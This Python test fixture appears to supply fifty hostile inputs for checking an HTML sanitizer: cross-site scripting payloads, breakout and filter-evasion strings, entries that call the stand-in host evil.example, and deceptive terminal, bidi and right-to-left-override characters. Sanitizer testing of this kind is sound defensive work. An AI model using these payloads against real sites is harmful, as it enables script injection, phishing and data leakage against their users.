"""Fifty texts of people who mean harm: markup that runs something, and characters that lie about what is read."""

from __future__ import annotations

RUNS = "window.hacked=1"
ELSEWHERE = "http://evil.example/"
"""Nothing may be asked of it."""

MARKUP = [
    f"<script>{RUNS}</script>",
    f"<img src=x onerror={RUNS}>",
    f"<svg onload={RUNS}>",
    f"<svg><script>{RUNS}</script></svg>",
    f"<svg><animate onbegin={RUNS} attributeName=x dur=1s>",
    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
    "<iframe src=javascript:parent.hacked=1></iframe>",
    "<object data=javascript:parent.hacked=1></object>",
    f"<embed src={ELSEWHERE}x.swf>",
    f"<a href=javascript:{RUNS} autofocus onfocus={RUNS}>click</a>",
    f"<body onload={RUNS}>",
    f"<video><source onerror={RUNS}></video>",
    f"<audio src=x onerror={RUNS}>",
    f"<details open ontoggle={RUNS}>",
    f"<input autofocus onfocus={RUNS}>",
    f"<select autofocus onfocus={RUNS}>",
    f"<marquee onstart={RUNS}>",
    f"<style>@import '{ELSEWHERE}x.css';</style>",
    f"<style>*{{background:url({ELSEWHERE}x)}}</style>",
    f"<link rel=stylesheet href={ELSEWHERE}x.css>",
    f"<base href={ELSEWHERE}>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
    f"<form action={ELSEWHERE}><button autofocus>send</button></form>",
    f"<img src={ELSEWHERE}pixel.png>",
    f"<math><mtext><script>{RUNS}</script></mtext></math>",
    f"<template><script>{RUNS}</script></template>",
    f"<noscript><img src=x onerror={RUNS}></noscript>",
    f"<x onpointerenter={RUNS} style=position:fixed;inset:0>",
    f'"><script>{RUNS}</script>',
    f"'><img src=x onerror={RUNS}>",
    f"</textarea><script>{RUNS}</script>",
    f"</title><script>{RUNS}</script>",
    f"</style><script>{RUNS}</script>",
    f"</script><script>{RUNS}</script>",
    f"<!--<img src=x onerror={RUNS}>-->",
    f"<![CDATA[<script>{RUNS}</script>]]>",
    f"<scr<script>ipt>{RUNS}</script>",
    f"<IMG SRC=x OnErRoR={RUNS}>",
    f"&lt;script&gt;{RUNS}&lt;/script&gt;",
    f"&#60;img src=x onerror={RUNS}&#62;",
    f"${{{RUNS}}}",
    f"{{{{constructor.constructor('{RUNS}')()}}}}",
    f"javascript:{RUNS}",
    f"data:text/html,<script>{RUNS}</script>",
]
DECEITFUL = [
    "\x1b[31mred\x1b[0m\x1b[2J\x1b]0;title\x07",
    "\x1b]8;;http://evil.example/\x07a link\x1b]8;;\x07",
    "safe\u202egpj.exe",
    "\u2066left\u2069\u200fright",
    "nul\x00 bell\x07 back\x08\x08\x08\x08 del\x7f",
    "first\r\nsecond\u2028third\x85" + "long " * 3000,
]
HOSTILE = MARKUP + DECEITFUL

assert len(HOSTILE) == 50

LIES = [chr(code) for code in (*range(9), *range(0x0E, 0x20), 0x7F, *range(0x202A, 0x202F), *range(0x2066, 0x206A))]
"""What may stand in no element of a page."""
